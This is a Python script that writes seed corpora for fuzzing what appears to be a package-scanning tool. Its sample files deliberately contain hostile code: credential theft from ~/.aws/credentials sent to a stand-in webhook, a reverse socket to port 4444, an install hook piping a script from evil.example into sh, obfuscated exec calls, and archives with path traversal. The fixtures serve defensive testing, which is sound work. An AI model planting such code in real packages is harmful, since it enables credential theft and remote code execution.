#!/usr/bin/env python3
"""Write small seed corpora for the fuzz targets (standard library only).

    python3 gen_seeds.py            # writes corpus/{archive,metadata,python,rules}/

corpus/ is git-ignored: the seeds are made, not committed. Each archive seed
starts with the selector byte that fuzz_targets/archive.rs maps to a file
name suffix: 0 .whl, 1 .tar.gz, 2 .tar.bz2, 3 .zip, 4 .tar, 5 .egg.
"""

import bz2
import gzip
import hashlib
import base64
import io
import os
import sys
import tarfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "corpus")

WHL, TGZ, TBZ, ZIP, TAR, EGG = range(6)

METADATA = b"""Metadata-Version: 2.1
Name: demo
Version: 1.0
Summary: A demo package
  with a folded summary
Home-page: https://example.org/demo
Author: Someone
Author-email: someone@example.org
License: MIT
Requires-Python: >=3.8
Requires-Dist: requests>=2
Requires-Dist: colorama; extra == "color"
Project-URL: Source, https://example.org/src

Long description body, ignored.
"""

PY_FILES = {
    "plain.py": b'''"""A plain module."""
import os
import json as j
from pathlib import Path


def load(path):
    with open(path) as f:
        return j.load(f)


class Thing:
    def __init__(self, x=1, *args, **kw):
        self.x = x

    async def run(self):
        await something()
        return [i * 2 for i in range(self.x) if i % 2]


if __name__ == "__main__":
    print(load(os.environ.get("CFG", "cfg.json")))
''',
    "payload.py": b'''import base64, zlib, codecs
import subprocess as sp
from os import system as s

code = base64.b64decode("cHJpbnQoJ2hpJyk=")
exec(compile(zlib.decompress(code), "<x>", "exec"))
k = "".join(chr(c) for c in [111, 115])
getattr(__import__(k), "sys" + "tem")("id")
eval(codecs.decode("cevag(1)", "rot13"))
sp.Popen(["curl", "http://198.51.100.1/x.sh"], shell=True)
s("rm -rf ~/.ssh"[::-1])
''',
    "access.py": b'''import os, socket, urllib.request, shutil

def b64d(x):
    import base64
    return base64.b64decode(x)

TOKEN = open(os.path.expanduser("~/.aws/credentials")).read()
urllib.request.urlopen("https://webhook.example/" + TOKEN)
sock = socket.socket(); sock.connect(("203.0.113.5", 4444))
for k, v in os.environ.items():
    if "KEY" in k:
        requests.post("http://x.example", data={k: v})
shutil.copy("/etc/passwd", "/tmp/p")
exec(b64d("cHJpbnQoMSk="))
''',
    "setup.py": b'''import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl https://evil.example/i.sh | sh")


setup(
    name="demo",
    version="1.0",
    packages=["demo"],
    cmdclass={"install": PostInstall},
    entry_points={"console_scripts": ["demo=demo:main"]},
)
''',
    "weird.py": "# -*- coding: utf-8 -*-\nx = f'{1+1!r:>{10}}' + r'\\d' + b'\\x00'.decode() + '\u00e9'\nlambda *a, **k: (yield from a)\nmatch x:\n    case [1, *rest] | {'k': _}:\n        pass\nglobal g\ndef f[T](a: T) -> T: ...\n".encode(),
    "broken.py": b"def f(:\n  return ((((\nclass\n\tx = '''unterminated\n",
}


def wheel_files(name="demo", version="1.0", extra=()):
    di = f"{name}-{version}.dist-info"
    files = [
        (f"{name}/__init__.py", PY_FILES["plain.py"]),
        (f"{name}/payload.py", PY_FILES["payload.py"]),
        (f"{name}/_native.cpython-311-x86_64-linux-gnu.so", b"\x7fELF\x02\x01\x01" + b"\x00" * 57),
        (f"{name}-init.pth", b"import os; os.system('id')\n"),
        (f"{di}/METADATA", METADATA),
        (f"{di}/WHEEL", b"Wheel-Version: 1.0\nGenerator: seed\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        (f"{di}/entry_points.txt", b"[console_scripts]\ndemo = demo:main\n"),
    ] + list(extra)
    record = []
    for path, data in files:
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    record.append(f"{di}/RECORD,,")
    files.append((f"{di}/RECORD", ("\n".join(record) + "\n").encode()))
    return files


def sdist_files(root="demo-1.0"):
    return [
        (f"{root}/PKG-INFO", METADATA),
        (f"{root}/setup.py", PY_FILES["setup.py"]),
        (f"{root}/pyproject.toml", b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'),
        (f"{root}/demo/__init__.py", PY_FILES["plain.py"]),
        (f"{root}/demo/access.py", PY_FILES["access.py"]),
        (f"{root}/demo.egg-info/PKG-INFO", METADATA),
    ]


def egg_files():
    return [
        ("EGG-INFO/PKG-INFO", METADATA),
        ("EGG-INFO/top_level.txt", b"demo\n"),
        ("demo/__init__.py", PY_FILES["plain.py"]),
        ("demo/payload.py", PY_FILES["payload.py"]),
    ]


def make_zip(files, method=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for path, data in files:
            z.writestr(path, data)
    return buf.getvalue()


def make_tar(files, links=()):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for path, data in files:
            info = tarfile.TarInfo(path)
            info.size = len(data)
            info.mode = 0o644
            t.addfile(info, io.BytesIO(data))
        for path, target, kind in links:
            info = tarfile.TarInfo(path)
            info.type = kind
            info.linkname = target
            t.addfile(info)
    return trim_tar(buf.getvalue())


def trim_tar(data):
    """Drop tarfile's padding to a 10 KiB record: keep the members and the two
    zero blocks that end the archive, so mutations are not spent on zeros."""
    body = data.rstrip(b"\0")
    body += b"\0" * (-len(body) % 512)
    return body + b"\0" * 1024


def write(kind, name, data):
    d = os.path.join(OUT, kind)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def main():
    # Archives: stored (uncompressed) zips and plain tars let mutations reach
    # the members; compressed ones exercise the decoders.
    whl = wheel_files()
    write("archive", "wheel_deflate", bytes([WHL]) + make_zip(whl))
    write("archive", "wheel_stored", bytes([WHL]) + make_zip(whl, zipfile.ZIP_STORED))
    write("archive", "wheel_bzip2", bytes([WHL]) + make_zip(whl[:3] + whl[4:], zipfile.ZIP_BZIP2))
    write("archive", "wheel_dup_metadata", bytes([WHL]) + make_zip(whl + [("other-1.0.dist-info/METADATA", METADATA)], zipfile.ZIP_STORED))
    write("archive", "wheel_traversal", bytes([WHL]) + make_zip([("../../evil.py", b"x"), ("demo-1.0.dist-info/METADATA", METADATA)], zipfile.ZIP_STORED))
    sd = sdist_files()
    links = [("demo-1.0/link", "../../etc/passwd", tarfile.SYMTYPE), ("demo-1.0/hard", "demo-1.0/setup.py", tarfile.LNKTYPE), ("demo-1.0/fifo", "", tarfile.FIFOTYPE)]
    plain_tar = make_tar(sd, links)
    write("archive", "sdist_tar", bytes([TAR]) + plain_tar)
    write("archive", "sdist_tar_small", bytes([TAR]) + make_tar(sd[:1] + [("demo-1.0/setup.py", b"import os\nos.system('x')\n")]))
    write("archive", "sdist_tgz", bytes([TGZ]) + gzip.compress(plain_tar, mtime=0))
    write("archive", "sdist_tbz2", bytes([TBZ]) + bz2.compress(plain_tar))
    write("archive", "sdist_zip", bytes([ZIP]) + make_zip(sd, zipfile.ZIP_STORED))
    pax = io.BytesIO()
    with tarfile.open(fileobj=pax, mode="w", format=tarfile.PAX_FORMAT) as t:
        for path, data in [("demo-1.0/PKG-INFO", METADATA), ("demo-1.0/" + "d/" * 40 + "x.py", b"import os\n")]:
            info = tarfile.TarInfo(path)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    write("archive", "sdist_pax", bytes([TAR]) + trim_tar(pax.getvalue()))
    write("archive", "egg", bytes([EGG]) + make_zip(egg_files(), zipfile.ZIP_STORED))
    write("archive", "empty_zip", bytes([ZIP]) + make_zip([]))
    write("archive", "empty_tar", bytes([TAR]) + make_tar([]))

    # Metadata files.
    write("metadata", "full", METADATA)
    write("metadata", "minimal", b"Metadata-Version: 2.1\nName: x\nVersion: 0\n")
    write("metadata", "unknown_and_folded", b"Metadata-Version: 1.0\nName: UNKNOWN\nLicense: line one\n        line two\n\tline three\nClassifier: A :: B\n\n")
    write("metadata", "crlf_latin1", b"Name: caf\xe9\r\nVersion: 1.0\r\nAuthor: \xff\xfe\r\n\r\nbody")

    # Python sources, for the analysis alone and for the rules over it.
    for name, data in PY_FILES.items():
        write("python", name[:-3], data)
        write("rules", name[:-3], data)
    write("python", "nested", b"x = " + b"(" * 200 + b"1" + b")" * 200 + b"\n" + b"[" * 100 + b"]" * 100 + b"\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
